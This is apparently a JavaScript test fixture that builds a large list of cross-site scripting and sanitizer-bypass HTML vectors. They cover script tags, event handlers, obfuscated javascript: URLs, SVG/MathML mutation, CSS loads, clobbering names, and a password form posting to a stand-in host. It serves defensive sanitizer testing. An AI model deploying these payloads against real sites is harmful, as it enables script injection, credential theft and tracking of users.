// Hostile HTML of our own making, family by family. Whatever runs calls hit(); whatever loads asks for
// http://elsewhere.test/. A vector is {family, html}; bytes that no text may hold (NUL) are not in it.

const ELSEWHERE = 'http://elsewhere.test';
const vectors = [];

function add(family, ...list) {
  for (const html of list) vectors.push({ family, html });
}

// Scripts: spellings of the tag, and tags that begin inside others.
const script = 'hit(1)';
for (const open of ['<script>', '<SCRIPT>', '<sCrIpT >', '<script\n>', '<script\f>', '<script/>', '<script/x>', '<script x="y>">',
  '<script x=`>`>', '<script\t\r\n type=text/javascript>', '<script type=module>', '<script async defer>', '<script "">', "<script ''>"])
  add('script', `${open}${script}</script>`, `<p>a${open}${script}</script >b`, `<table><tr>${open}${script}</script\n x></table>`);
add('script',
  `<scr<script>ipt>${script}</scr</script>ipt>`, `<<script>${script}//<</script>`, `<script>${script}`, `<script>${script}</script`,
  `<script src=${ELSEWHERE}/a.js></script>`, `<script src="//elsewhere.test/a.js">`, `<script\nsrc='${ELSEWHERE}/a.js'></script>`,
  `<script src=data:text/javascript,${script}></script>`, `<script src=//elsewhere.test/a.js async></script>`,
  `<script><!--\n${script}\n--></script>`, `<script><!--<script></script>${script}--></script>`, `&lt;script&gt;${script}&lt;/script&gt;`,
  `<div>&lt;img src=x onerror=${script}&gt;</div>`, `<p title="&lt;script&gt;${script}&lt;/script&gt;">a</p>`,
  `<img alt="<script>${script}</script>" src=${ELSEWHERE}/x>`, `<img alt='&lt;script>${script}&lt;/script>'>`);

// Handlers: every place where one fits, and every way to part it from the name of the tag.
const handlers = {
  onerror: ['img src=x:', 'video src=x:', 'audio src=x:', 'input type=image src=x:', 'script src=x:', 'object data=x:', 'link rel=stylesheet href=x:'],
  onload: ['body', 'img src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=', 'iframe', 'svg', 'style', 'frameset', 'embed src=data:,'],
  onfocus: ['input autofocus', 'a href=x autofocus', 'div tabindex=0 autofocus', 'textarea autofocus', 'select autofocus', 'button autofocus', 'details tabindex=1 autofocus'],
  onmouseover: ['a', 'b', 'p', 'div', 'td', 'font', 'marquee', 'x', 'h1', 'table', 'li', 'span', 'blockquote', 'center'],
  onclick: ['a href=x', 'div', 'button', 'summary'],
  ontoggle: ['details open', 'details open=""'],
  onstart: ['marquee'], onfinish: ['marquee loop=1'], onbounce: ['marquee behavior=alternate'],
  onanimationstart: ['b style="animation:a 1s"'], ontransitionend: ['b style="transition:color 1s"'],
  onpageshow: ['body'], onhashchange: ['body'], onscroll: ['div', 'body'], onresize: ['body'], onbeforeinput: ['div contenteditable'],
  oncopy: ['p'], onpaste: ['p'], oncut: ['p'], ondrag: ['p draggable=true'], onwheel: ['p'], onpointerover: ['p'], onpointerenter: ['p'],
  onkeydown: ['p'], onselectstart: ['p'], onauxclick: ['p'], oncontentvisibilityautostatechange: ['p style=content-visibility:auto'],
};
for (const [handler, tags] of Object.entries(handlers))
  for (const tag of tags) {
    const close = tag.split(' ')[0];
    add('handler', `<${tag} ${handler}=hit(2)>a</${close}>`, `<${tag} ${handler.toUpperCase()} = "hit(2)">a</${close}>`);
  }
for (const gap of ['/', '\n', '\t', '\f', '\r', ' / ', '//', ' a=b/', ' "', " '", ' `', ' =', ' =""'])
  add('handler', `<img${gap}src=x:${gap} onerror=hit(2)>`, `<img src="x:"${gap}onerror=hit(2)//>`, `<svg${gap}onload=hit(2)>`);
add('handler', '<img src=x: title="a"onerror=hit(2)>', `<img src=x: alt='"onerror=hit(2) "'>`, `<a title="x' onmouseover='hit(2)">b</a>`,
  '<img alt=`a onerror=hit(2) src=x: b`>', '<img """><img src=x: onerror=hit(2)">', '<img src=x: onerror\n=\nhit(2)>',
  '<img src=x: onerror=&#104;it(2)>', '<img src=x: onerror="&#x68;it&lpar;2&rpar;">', '<IMG SRC=x: oNeRrOr=hit(2)>',
  '<img onerror=hit(2) src=cid:x>', '<img src=cid:x onerror=hit(2)>', '<img src="cid:x&quot; onerror=&quot;hit(2)">',
  `<img src='cid:"onerror="hit(2)'>`, `<a href='http://a.test/"onmouseover="hit(2)'>b</a>`, '<a href="http://a.test/&quot;onmouseover=&quot;hit(2)">b</a>',
  '<p style="color:red&quot; onmouseover=&quot;hit(2)">a</p>', `<p style='color:red" onmouseover="hit(2)'>a</p>`,
  `<font face='a" onmouseover="hit(2)'>a</font>`, `<font color='"onmouseover="hit(2)'>a</font>`, `<td width='1"onmouseover="hit(2)'>a`,
  `<p lang='"onmouseover="hit(2)'>a</p>`, `<p title='"onmouseover="hit(2)'>a</p>`, `<p title='"><img src=x: onerror=hit(2)>'>a</p>`,
  `<img src=cid:x alt='"><img src=x: onerror=hit(2)>'>`, `<img src=${ELSEWHERE} alt='"><img src=x: onerror=hit(2)>'>`);

// Addresses that run: javascript: in all its disguises, in every attribute that takes one.
const disguises = ['javascript:hit(3)', 'JaVaScRiPt:hit(3)', ' javascript:hit(3)', '\tjavascript:hit(3)', 'java\tscript:hit(3)', 'java\nscript:hit(3)',
  'java\r\nscript:hit(3)', 'java&Tab;script:hit(3)', 'java&NewLine;script:hit(3)', 'javascript&colon;hit(3)', '&#106;avascript:hit(3)',
  '&#x6a;avascript:hit(3)', '&#0000106avascript:hit(3)', '&#x0006A;avascript:hit(3)', 'j&#97;v&#x61;script:hit(3)', '&#1;javascript:hit(3)',
  '&#31;javascript:hit(3)', '\x01javascript:hit(3)', '\x1fjavascript:hit(3)', '&#32;&#9;&#10;javascript:hit(3)', 'javascript\t:hit(3)', 'javascript&#9;:hit(3)',
  'javascript:/*http://*/hit(3)', 'javascript://a.test/%0ahit(3)', 'javascript://https://a.test%0d%0ahit(3)', 'javascript:void hit(3)', 'javascript:%68it(3)',
  'data:text/html,<script>hit(3)</script>', 'data:text/html;base64,PHNjcmlwdD5oaXQoMyk8L3NjcmlwdD4=', 'vbscript:hit(3)', 'view-source:javascript:hit(3)',
  'livescript:hit(3)', 'feed:javascript:hit(3)', 'jar:javascript:hit(3)', '\u2028javascript:hit(3)', '\ufeffjavascript:hit(3)', 'j\u00adavascript:hit(3)'];
for (const address of disguises)
  add('address', `<a href="${address}">a</a>`, `<a href='${address}' target=_self>a</a>`, `<iframe src="${address}"></iframe>`, `<form action="${address}"><button>a</button></form>`);
for (const address of disguises.slice(0, 6))
  add('address', `<area href="${address}">`, `<svg><a xlink:href="${address}"><text y=9>a</text></a></svg>`, `<math href="${address}">a</math>`,
    `<object data="${address}"></object>`, `<embed src="${address}">`, `<button formaction="${address}" form=f>a</button><form id=f></form>`,
    `<base href="${address}"><a href=x>a</a>`, `<img src="${address}">`, `<input type=image src="${address}">`, `<table background="${address}"><tr><td>a</table>`,
    `<a href="http://a.test/" href="${address}">a</a>`, `<a href="${address}" href="http://a.test/">a</a>`, `<q cite="${address}">a</q>`);

// Foreign elements and mutation: what one parser reads as text another reads as markup.
const payload = '<img src=x: onerror=hit(4)>';
for (const root of ['svg', 'math', 'svg><desc', 'svg><title', 'svg><foreignObject', 'math><mtext', 'math><mi', 'math><annotation-xml encoding=text/html'])
  for (const raw of ['style', 'script', 'title', 'textarea', 'xmp', 'noscript', 'iframe', 'noembed'])
    add('foreign', `<${root}><${raw}><a title="</${raw}>${payload}">`, `<${root}><p><${raw}>${payload}</${raw}>`);
add('foreign', `<svg onload=hit(4)>`, `<svg><script>hit(4)</script></svg>`, `<svg><script href=data:,hit(4) />`, `<svg><script>hit&#40;4)</script>`,
  `<svg><animate onbegin=hit(4) attributeName=x dur=1s>`, `<svg><set attributeName=href to=javascript:hit(4)><a id=x><text>a</text></a>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>hit(4)</script></svg>#x">`, `<svg><image href=${ELSEWHERE}/a.png>`,
  `<svg><image xlink:href=${ELSEWHERE}/a.png>`, `<svg><use href=${ELSEWHERE}/a.svg#x>`, `<svg><style>@import '${ELSEWHERE}/a.css'</style></svg>`,
  `<svg><feImage href=${ELSEWHERE}/a.png>`, `<svg><foreignObject><iframe src=${ELSEWHERE}></foreignObject></svg>`, `<svg></p><style><a id="</style>${payload}">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=hit(4)&gt;">`, `<math><mi//xlink:href="data:x,<script>hit(4)</script>">`,
  `<form><math><mtext></form><form><mglyph><style></math>${payload}`, `<svg><![CDATA[><image xlink:href="]]>${payload}//"></svg>`,
  `<math><annotation-xml encoding="text/html"><style>${payload}</style></annotation-xml></math>`, `<svg><p><style><g title="</style>${payload}">`,
  `<svg><desc><table><td><style><b title="</style>${payload}">`, `<image src=x: onerror=hit(4)>`, `<isindex type=image src=x: onerror=hit(4)>`);

// Text that is not text: raw elements, comments, CDATA, templates.
for (const raw of ['title', 'textarea', 'style', 'xmp', 'noscript', 'noembed', 'noframes', 'iframe', 'plaintext', 'template', 'select', 'listing'])
  add('raw', `<${raw}></${raw}>${payload}`, `<${raw}><p title="</${raw}>${payload}">`, `<${raw}>${payload}</${raw}>`, `<${raw}><!--</${raw}>${payload}-->`,
    `<!--<${raw}>--></${raw}>${payload}`, `<${raw}/>${payload}</${raw}>`, `<${raw}><${raw}></${raw}>${payload}</${raw}>`, `<${raw.toUpperCase()}>&lt;/${raw}&gt;${payload}`);
add('comment', `<!-->${payload}-->`, `<!--->${payload}-->`, `<!--a--!>${payload}-->`, `<!-- --${payload} -->`, `<!--[if gte IE 4]>${payload}<![endif]-->`,
  `<![CDATA[${payload}]]>`, `<![CDATA[>]]>${payload}`, `<!${payload}>`, `<?${payload}?>`, `<?php echo '>${payload}'?>`, `</${payload}>`, `</ ${payload}>`, `<!DOCTYPE a "${payload}">`,
  `<!--${payload}`, `<!-- --!>${payload}<!-- -->`, `<comment>${payload}</comment>`, `<!ELEMENT x "${payload}">`, `<%${payload}%>`, `<!---!>${payload}-->`);

// Nesting that tree builders repair each in its own way.
for (const wrap of ['<table>@', '<table><tr>@', '<table><tr><td>@', '<table><caption>@', '<select>@', '<select><option>@', '<p><table>@', '<a><table><a>@',
  '<form><table><form>@', '<b><p></b>@', '<dl><dt><dd>@', '<button><button>@', '<h1><h2>@', '<li><ul><p>@', '<nobr><nobr>@', '<frameset>@', '<colgroup>@', '<tr><td>@', '</p>@', '</br>@',
  '<body><body>@', '<html><head></head>@', '<ruby><rt><rp>@', '<object><param>@', '<applet>@', '<marquee><p></marquee>@', '<div><b><div></b>@', '<a href=http://a.test><div>@</a></div>'])
  add('nesting', wrap.replace('@', payload), wrap.replace('@', '<style>*{background:url(' + ELSEWHERE + '/n)}</style>' + payload), wrap.replace('@', '<form action=x><input>'));
add('nesting', '<div>'.repeat(600) + payload, '<b>'.repeat(300) + '<style><a title="</style>' + payload + '">', '<table><td>'.repeat(200) + payload,
  '<div>'.repeat(510) + '<table><form><svg></form>' + payload, '<a><b>'.repeat(200) + '</a>' + payload, '<font color=red>'.repeat(200) + '<p>' + payload);

// Requests: everything that loads.
const image = `${ELSEWHERE}/i.png`;
for (const html of [`<img src=${image}>`, `<img src="//elsewhere.test/i.png">`, `<img src='&#104;ttp://elsewhere.test/i'>`, `<img src="\t${image}">`, `<img src="ht\ntp://elsewhere.test/i">`,
  `<img srcset="${image} 1x">`, `<img src=cid:a srcset="${image} 2x">`, `<img src=data:image/png;base64,AAAA srcset=${image}>`, `<picture><source srcset=${image}><img></picture>`,
  `<img lowsrc=${image} dynsrc=${image} src=cid:a>`, `<image src=${image}>`, `<input type=image src=${image}>`, `<video poster=${image}></video>`, `<video src=${image}></video>`, `<audio src=${image}></audio>`,
  `<video><source src=${image}></video>`, `<video><track default src=${image}></video>`, `<embed src=${image}>`, `<object data=${image}></object>`, `<iframe src=${image}></iframe>`,
  `<frameset><frame src=${image}></frameset>`, `<applet code=${image}></applet>`, `<body background=${image}>`, `<table background=${image}><tr><td>a</table>`, `<table><tr><td background=${image}>a</table>`,
  `<bgsound src=${image}>`, `<link rel=stylesheet href=${image}>`, `<link rel=icon href=${image}>`, `<link rel=preload as=image href=${image}>`, `<link rel=prefetch href=${image}>`,
  `<link rel=modulepreload href=${image}>`, `<link rel=manifest href=${image}>`, `<link rel=dns-prefetch href=//elsewhere.test>`, `<link rel=preconnect href=${ELSEWHERE}>`,
  `<meta http-equiv=refresh content="0;url=${ELSEWHERE}/m">`, `<META HTTP-EQUIV="refresh" CONTENT="0; ${ELSEWHERE}/m">`, `<meta http-equiv=set-cookie content=a=b>`, `<base href=${ELSEWHERE}/><img src=b>`,
  `<base href=${ELSEWHERE}/><a href=b>c</a>`, `<style>@import url(${image})</style>`, `<style>p{background:url(${image})}</style><p>a`, `<style>@font-face{font-family:a;src:url(${image})}p{font-family:a}</style><p>a`,
  `<iframe srcdoc="<img src=${image}>"></iframe>`, `<iframe srcdoc="&lt;script&gt;parent.hit(5)&lt;/script&gt;"></iframe>`, `<object type=text/html data="data:text/html,<img src=${image}>"></object>`,
  `<a href=${ELSEWHERE}/p ping=${ELSEWHERE}/ping>a</a>`, `<portal src=${image}></portal>`, `<fencedframe src=${image}></fencedframe>`, `<table><tr><td><img src=${image} width=1 height=1></table>`,
  `<v:rect><v:fill src=${image} /></v:rect>`, `<!--[if mso]><v:fill src=${image}><![endif]--><img src=${image}>`])
  add('request', html, `<div>${html}<p>b`);

// Styles.
const css = [`background:url(${image})`, `background:url("${image}")`, `background-image:url('${image}')`, `BACKGROUND:URL(${image})`, `background:u\\72l(${image})`, `background:\\75\\72\\6c(${image})`,
  `background:url(/**/${image})`, `back/**/ground:url(${image})`, `background:/**/url(${image})`, `list-style-image:url(${image});display:list-item`, `list-style:url(${image}) inside;display:list-item`,
  `border-image:url(${image}) 30`, `border-image-source:url(${image});border:9px solid`, `content:url(${image})`, `cursor:url(${image}),auto`, `filter:url(${image}#a)`, `mask:url(${image})`,
  `-webkit-mask-image:url(${image})`, `clip-path:url(${image}#a)`, `shape-outside:url(${image});float:left`, `background:image-set("${image}" 1x)`, `background:-webkit-image-set(url(${image}) 1x)`,
  `background:-webkit-cross-fade(url(${image}),url(${image}),50%)`, `--a:url(${image});background:var(--a)`, `color:red;}*{background:url(${image})`, `color:red</style><img src=x: onerror=hit(6)>`,
  `font-family:'a;background:url(${image});b'`, `font-family:"';background:url(${image})`, `color:red;;background :url(${image})`, `font:12px "a\\";background:url(${image})`, `background:src(${image})`,
  `width:expression(hit(6))`, `behavior:url(${image})`, `-moz-binding:url(${image}#a)`, `position:fixed;top:0;left:0;width:100%;height:100%`, `@import '${image}'`, `color:rgb(1,2,3;background:url(${image}))`,
  `color:rgb(url(${image}))`, `background:rgb(0,0,0)url(${image})`, `background:\nurl\n(${image})`, `background:url(${image}`, `background:&#117;rl(${image})`, `background:url&lpar;${image}&rpar;`, `offset-path:url(${image})`];
for (const style of css)
  add('style', `<p style='${style.replaceAll("'", '&#39;')}'>a</p>`, `<td style="${style.replaceAll('"', '&quot;')}">a</td>`);

// Forms: what asks a reader for a secret.
add('form', '<form action=http://elsewhere.test/f><input name=password type=password><input type=submit></form>', '<input>', '<button>a</button>', '<textarea>a</textarea>', '<select><option>a</select>',
  '<form><fieldset><legend>a</legend><input></fieldset></form>', '<isindex prompt=a>', '<keygen name=a>', '<datalist><option value=a></datalist>', '<output>a</output>', '<meter value=1></meter>',
  '<FORM\nACTION=x><INPUT\n/></FORM>', '<table><form><tr><td><input></form></table>', '<label>a<input type=checkbox></label>', '<input type=hidden name=a><button formaction=javascript:hit(7)>b</button>',
  '<div contenteditable=true>a</div>', '<form id=f></form><input form=f>', '<dialog open><form method=dialog><button>a</button></form></dialog>', '<details open><summary>a</summary><input></details>', '<form><input type=image src=x:></form>');

// Names that shadow the page's own.
add('name', '<a id=location href=http://a.test>a</a>', '<img name=body src=cid:x>', '<form name=getElementById></form>', '<a id=hit></a>', '<a name=hit href=http://a.test>b</a>',
  '<div id=mail>a</div>', '<p class=admin>a</p>', '<a id=x><a id=x name=y href=http://a.test>b</a>', '<iframe name=top></iframe>', '<object id=defaultView></object>');

export { vectors };
